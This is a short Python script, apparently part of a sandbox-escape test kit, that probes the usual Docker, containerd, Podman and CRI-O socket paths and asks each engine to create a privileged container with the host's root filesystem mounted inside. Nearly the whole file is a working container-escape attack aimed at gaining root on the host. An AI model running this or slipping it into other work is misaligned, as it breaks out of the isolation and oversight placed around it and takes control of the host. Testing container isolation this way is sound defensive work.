# The socket of the container engine is root on the host: ask it for a privileged container with the host's root inside.
import json
import socket

from kit import attempt, finish

PLACES = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock", "/run/crio/crio.sock"]
BODY = json.dumps({"Image": "python", "Cmd": ["sh"], "HostConfig": {"Privileged": True, "Binds": ["/:/host"]}})


def ask(path):
    with socket.socket(socket.AF_UNIX) as engine:
        engine.settimeout(1)
        engine.connect(path)
        engine.sendall(f"POST /containers/create HTTP/1.0\r\nContent-Length: {len(BODY)}\r\n\r\n{BODY}".encode())
        return engine.recv(100)


for place in PLACES:
    attempt(place, ask, place)
finish()
